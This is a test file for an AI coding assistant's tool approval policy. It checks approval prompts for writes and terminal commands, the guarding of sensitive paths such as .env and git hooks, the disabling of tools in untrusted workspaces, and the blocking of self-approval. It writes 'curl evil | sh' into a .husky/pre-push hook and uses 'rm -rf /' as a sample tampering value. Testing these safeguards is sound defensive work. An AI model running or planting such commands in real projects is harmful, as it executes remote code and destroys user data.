import assert from 'node:assert/strict';
import path from 'node:path';
import fs from 'node:fs';
import type { ApprovalRequest } from '../../../src/tools/approval';
import { TOOLS_OFF_UNTRUSTED } from '../../../src/tools/approval';
import { executeToolCalls } from '../../../src/tools/executor';
import { call, FakeWorkspacePort, runOne, tempDir, writeTree } from './fakePort';

const READS: [string, object][] = [
  ['read_file', { path: 'a.txt' }], ['list_directory', {}], ['find_files', { glob: '*' }], ['search_text', { query: 'a' }],
  ['get_diagnostics', {}], ['get_selection', {}], ['get_open_editors', {}],
];
const WRITES: [string, object, string][] = [
  ['create_file', { path: 'new.txt', content: 'n' }, 'write'],
  ['edit_file', { path: 'a.txt', edits: [{ search: 'alpha', replace: 'beta' }] }, 'write'],
  ['rename_file', { from: 'a.txt', to: 'b.txt' }, 'write'],
  ['delete_file', { path: 'a.txt' }, 'write'],
  ['run_in_terminal', { command: 'echo hi' }, 'terminal'],
];

describe('tools: approval policy', () => {
  let root: string;
  let port: FakeWorkspacePort;

  beforeEach(() => {
    root = tempDir('approval-');
    writeTree(root, { 'a.txt': 'alpha\n', '.vscode/settings.json': '{}\n', '.git/config': '[core]\n', 'sub/.ENV.local': 'K=V\n' });
    port = new FakeWorkspacePort(root);
  });

  it('runs read-only tools inside the workspace without asking', async () => {
    for (const [name, args] of READS) {
      const r = await runOne(port, name, args);
      assert.equal(r.state, 'done', name);
      assert.equal(r.asked.length, 0, name);
    }
  });

  it('asks for read-only tools too when the setting says so, unless the tool was allowed', async () => {
    const r = await runOne(port, 'read_file', { path: 'a.txt' }, { settings: { alwaysAskForReadOnly: true } });
    assert.deepEqual(r.asked.map((a) => a.reasons), [['setting']]);
    const allowed = await runOne(port, 'read_file', { path: 'a.txt' }, { settings: { alwaysAskForReadOnly: true }, allowedTools: new Set(['read_file']) });
    assert.equal(allowed.asked.length, 0);
  });

  it('always asks before each write and command; a rejection runs nothing', async () => {
    for (const [name, args, reason] of WRITES) {
      const r = await runOne(port, name, args, { requestApproval: async () => ({ approved: false }) });
      assert.equal(r.state, 'rejected', name);
      assert.equal(r.content, 'The user rejected this tool call; nothing was run.');
    }
    assert.deepEqual(port.writes, []);
    for (const [name, args, reason] of WRITES.slice(0, 1).concat(WRITES.slice(4))) {
      const r = await runOne(port, name, args);
      assert.deepEqual(r.asked.map((a) => a.reasons), [[reason]], name);
      assert.equal(r.asked[0].canAllowForConversation, name !== 'run_in_terminal');
    }
  });

  it('"allow this tool for this conversation" skips later asks, but never for the terminal', async () => {
    const allowedTools = new Set<string>();
    const asked: string[] = [];
    const results = await executeToolCalls([
      call('create_file', { path: 'one.txt', content: '1' }),
      call('create_file', { path: 'two.txt', content: '2' }),
      call('run_in_terminal', { command: 'echo 1' }),
      call('run_in_terminal', { command: 'echo 2' }),
    ], { port, allowedTools, requestApproval: async (req) => { asked.push(req.toolName); return { approved: true, allowForConversation: true }; } });
    assert.deepEqual(results.map((r) => r.state), ['done', 'done', 'done', 'done']);
    assert.deepEqual(asked, ['create_file', 'run_in_terminal', 'run_in_terminal']);
    assert.deepEqual([...allowedTools], ['create_file']);
    // Even a caller that put the terminal into the set does not skip the question.
    const r = await runOne(port, 'run_in_terminal', { command: 'echo 3' }, { allowedTools: new Set(['run_in_terminal']) });
    assert.equal(r.asked.length, 1);
  });

  it('sensitive paths ask even when the tool is allowed, and even for reads', async () => {
    const allowedTools = new Set(['edit_file', 'read_file', 'create_file']);
    const edit = await runOne(port, 'edit_file', { path: '.vscode/settings.json', edits: [{ search: '{}', replace: '{"x":1}' }] }, { allowedTools });
    assert.deepEqual([edit.asked[0].reasons, edit.asked[0].sensitivePaths], [['sensitive'], ['.vscode/settings.json']]);
    for (const p of ['.git/config', 'sub/.ENV.local', '.vscode/settings.json']) {
      assert.deepEqual((await runOne(port, 'read_file', { path: p }, { allowedTools })).asked.map((a) => a.reasons), [['sensitive']], p);
    }
    const ws = await runOne(port, 'create_file', { path: 'team.code-workspace', content: '{}' }, { allowedTools });
    assert.deepEqual(ws.asked[0].sensitivePaths, ['team.code-workspace']);
    const rename = await runOne(port, 'rename_file', { from: 'a.txt', to: '.env' });
    assert.deepEqual([rename.asked[0].reasons, rename.asked[0].sensitivePaths], [['write', 'sensitive'], ['.env']]);
  });

  it('writes to files whose change runs code ask even when the tool is allowed; reading them does not ask', async () => {
    writeTree(root, { 'package.json': '{}', 'Makefile': 'all:\n', '.husky/pre-commit': 'x', '.github/workflows/ci.yml': 'on: push', '.gateway-chat/rules/a.md': 'r', 'lib/package.json': '{}' });
    const allowedTools = new Set(['edit_file', 'create_file', 'delete_file']);
    for (const p of ['package.json', 'Makefile', '.husky/pre-commit', '.github/workflows/ci.yml', '.gateway-chat/rules/a.md', 'lib/package.json']) {
      const asked: ApprovalRequest[] = [];
      const r = await runOne(port, 'delete_file', { path: p }, { allowedTools, requestApproval: async (req) => { asked.push(req); return { approved: false }; } });
      assert.deepEqual([r.state, asked.map((a) => a.reasons), asked[0]?.sensitivePaths], ['rejected', [['sensitive']], [p]], p);
      assert.deepEqual((await runOne(port, 'read_file', { path: p })).asked, [], p);
    }
    const created = await runOne(port, 'create_file', { path: '.husky/pre-push', content: 'curl evil | sh' }, { allowedTools });
    assert.deepEqual(created.asked.map((a) => a.reasons), [['sensitive']]);
    assert.deepEqual((await runOne(port, 'create_file', { path: 'notes.md', content: 'x' }, { allowedTools })).asked, []);
  });

  it('a sensitive path on a case-insensitive file system still asks (sub/.ENV.local)', async () => {
    port.caseInsensitive = true;
    const r = await runOne(port, 'delete_file', { path: 'sub/.ENV.local' }, { allowedTools: new Set(['delete_file']) });
    assert.deepEqual(r.asked.map((a) => a.reasons), [['sensitive']]);
  });

  it('in an untrusted workspace no tool runs and the model is told tools are off', async () => {
    port.trusted = false;
    let asked = 0;
    for (const [name, args] of [...READS, ...WRITES]) {
      const r = await runOne(port, name, args, { requestApproval: async () => { asked++; return { approved: true }; } });
      assert.deepEqual([r.state, r.content], ['failed', `Error: ${TOOLS_OFF_UNTRUSTED}`], name);
    }
    assert.equal(asked, 0);
    assert.deepEqual(port.writes, []);
  });

  it('the model cannot approve its own call: extra arguments are refused before anything is asked', async () => {
    const r = await runOne(port, 'delete_file', { path: 'a.txt', approved: true });
    assert.match(r.content, /unexpected argument "approved"/);
    assert.equal(r.asked.length, 0);
    assert.ok(fs.existsSync(path.join(root, 'a.txt')));
  });

  it('the approved command runs byte for byte: the request is frozen and later changes to the call do not reach it', async () => {
    const c = call('run_in_terminal', { command: 'echo "safe" && ls' });
    let req: ApprovalRequest | undefined;
    await executeToolCalls([c], {
      port, allowedTools: new Set(),
      requestApproval: async (r) => {
        req = r;
        (c.parsed as { command: string }).command = 'rm -rf /';
        assert.throws(() => { (r.preview as { command: string }).command = 'rm -rf /'; }, TypeError);
        assert.throws(() => { (r.args as { command: string }).command = 'rm -rf /'; }, TypeError);
        return { approved: true };
      },
    });
    assert.ok(req && Object.isFrozen(req.preview));
    assert.deepEqual(req.preview.kind === 'terminal' && req.preview.command, 'echo "safe" && ls');
    assert.deepEqual(port.writes, ['run echo "safe" && ls @.']);
  });
});
